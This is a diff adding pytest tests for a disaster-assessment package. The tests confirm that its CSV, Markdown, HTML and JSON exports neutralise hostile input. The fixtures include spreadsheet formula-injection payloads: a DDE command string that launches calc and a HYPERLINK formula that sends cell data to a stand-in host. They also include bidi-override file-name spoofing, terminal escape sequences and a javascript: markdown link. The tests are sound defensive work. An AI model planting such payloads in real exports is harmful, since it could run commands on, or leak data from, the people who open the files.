@@ -3,13 +3,19 @@ file never stops a batch."""
 
 from __future__ import annotations
 
+import csv
 import io
+import json
+import re
+import warnings
 from pathlib import Path
 
 import pytest
+import yaml
 
 import disaster_protocol as dp
 from disaster_protocol import portfolio as portfolio_module
+from disaster_protocol._output import CellWriter
 from disaster_protocol.cli import ExitCode, main
 from disaster_protocol.cli import many as many_module
 from disaster_protocol.errors import show_value
@@ -151,3 +157,122 @@ def test_assess_many_turns_an_unexpected_error_into_a_failure(
     assert [s.institution.id for s in result.summaries] == ["x"]
     assert [f.source for f in result.failures] == [str(tmp_path / "y.yaml")]
     assert result.failures[0].problems[0].code == "internal-error"
+
+
+# ----------------------------------------------------------------------------- outputs
+
+HOSTILE = ['=HYPERLINK("http://x/?d="&A1,"Click")', "=1+1", "@SUM(1+1)", "+1-2",
+           "-cmd|' /C calc'!A0", "\tTab", "Caja \u202eLSX.exe", "a\x1b[31mb\x07c\rd\x85e"]
+RAW = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")
+
+
+def _hostile_folder(tmp_path: Path) -> Path:
+    folder = tmp_path / "=1+1"
+    folder.mkdir()
+    for i, name in enumerate(HOSTILE):
+        country = "=2+2" if i % 2 else "@A1"
+        data = {"schema_version": 1,
+                "institution": {"id": f"i{i}", "name": name, "country": country,
+                                "subregion": "=S"},
+                "assessed_on": "2026-01-01", "actions": {"GOV-01": 4 - i % 5}}
+        (folder / f"p{i}.yaml").write_text(yaml.safe_dump(data, allow_unicode=True),
+                                          encoding="utf-8")
+    (folder / "zz_broken.yaml").write_text("schema_version: 1\n=x: [", encoding="utf-8")
+    return folder
+
+
+def _cells(text: str) -> list[str]:
+    return [c for row in csv.reader(io.StringIO(text)) for c in row]
+
+
+@pytest.mark.parametrize("extra", [[], ["--by", "country", "--suppress-under", "1"],
+                                   ["--by", "subregion", "--suppress-under", "1"]])
+def test_no_batch_csv_cell_starts_a_formula_or_holds_a_raw_control(
+        tmp_path: Path, extra: list[str]) -> None:
+    folder = _hostile_folder(tmp_path)
+    status, out, _ = run("batch", str(folder), "--format", "csv", *extra)
+    assert status == ExitCode.BAD_INPUT  # the broken file, after the others
+    assert not RAW.search(out)
+    cells = _cells(out)
+    assert cells
+    for value in cells:
+        assert not value.startswith(("=", "+", "@", "\t", "\r")), value
+        assert not value.startswith("-") or re.fullmatch(r"-[\d.]+", value), value
+    if not extra:
+        assert "'=1+1" in cells
+        assert "'@SUM(1+1)" in cells
+        assert "'-cmd|' /C calc'!A0" in cells
+        assert "Caja \\u202eLSX.exe" in cells
+        assert "a\\x1b[31mb\\x07c\\x0dd\\x85e" in cells
+        assert f"{tmp_path}/=1+1/p0.yaml" in cells
+        assert len(list(csv.reader(io.StringIO(out)))) == len(HOSTILE) + 2
+
+
+def test_every_csv_renderer_goes_through_the_cell_writer(bundled: dp.Protocol,
+                                                         tmp_path: Path) -> None:
+    folder = _hostile_folder(tmp_path)
+    with warnings.catch_warnings():
+        warnings.simplefilter("ignore", dp.InputWarning)
+        portfolio = dp.assess_many(bundled, [folder], keep_assessments=True)
+    assert len(portfolio.summaries) == len(HOSTILE)
+    first = portfolio.assessments[0]
+    texts = [portfolio.to_csv(), portfolio.summary("country", k=1).to_csv(),
+             first.to_csv(), dp.cooperation.match(portfolio).to_csv(),
+             dp.compare(first, first).to_csv()]
+    for text in texts:
+        assert not RAW.search(text)
+        for value in _cells(text):
+            assert not value.startswith(("=", "+", "@", "\t")), value
+
+
+def test_numbers_stay_numbers_in_csv() -> None:
+    buffer = io.StringIO()
+    CellWriter(buffer).writerow([-3, -0.5, "-3", "-2.5", "-x", 7])
+    assert buffer.getvalue() == "-3,-0.5,-3,-2.5,'-x,7\n"
+
+
+def test_frames_for_export_neutralise_text_columns(bundled: dp.Protocol,
+                                                   tmp_path: Path) -> None:
+    pytest.importorskip("pandas")
+    from disaster_protocol.frames import for_spreadsheet
+
+    with warnings.catch_warnings():
+        warnings.simplefilter("ignore", dp.InputWarning)
+        portfolio = dp.assess_many(bundled, [_hostile_folder(tmp_path)])
+    frame = for_spreadsheet(portfolio.to_frame())
+    names = list(frame["name"])
+    assert "'=1+1" in names
+    assert "Caja \\u202eLSX.exe" in names
+    assert frame["score"].dtype.kind == "f"
+
+
+@pytest.mark.parametrize("fmt", ["md", "html", "json", "csv"])
+def test_no_raw_control_or_bidi_character_in_any_batch_output(tmp_path: Path,
+                                                             fmt: str) -> None:
+    status, out, _ = run("batch", str(_hostile_folder(tmp_path)), "--format", fmt)
+    assert status == ExitCode.BAD_INPUT
+    assert not RAW.search(out)
+    if fmt == "json":
+        names = [s["institution"]["name"] for s in json.loads(out)["summaries"]]
+        assert "Caja \u202eLSX.exe" in names  # escaped in the text, the same value read back
+
+
+@pytest.mark.parametrize("fmt", ["text", "md", "html", "json", "csv"])
+def test_check_outputs_escape_controls_bidi_and_markdown_links(tmp_path: Path,
+                                                               fmt: str) -> None:
+    path = tmp_path / "p.yaml"
+    name = "[x](javascript:alert(1)) ![i](http://e.example/t.png) \u202eLSX\x1b]0;t\x07"
+    path.write_text(yaml.safe_dump({
+        "schema_version": 1, "institution": {"id": "x", "name": name, "country": "PE"},
+        "assessed_on": "2026-01-01", "actions": {"GOV-01": 2}}, allow_unicode=True),
+        encoding="utf-8")
+    status, out, _ = run("check", str(path), "--format", fmt)
+    assert status == ExitCode.OK
+    assert not RAW.search(out)
+    if fmt == "md":
+        assert not re.search(r"(?<!\\)\]\(", out)  # no unescaped "](": no link, no image
+        assert "\\[x\\](javascript:alert(1))" in out
+    if fmt == "html":
+        title = re.search("<title>(.*)</title>", out)
+        assert title is not None
+        assert "\\u202eLSX\\x1b]0;t\\x07" in title.group(1)
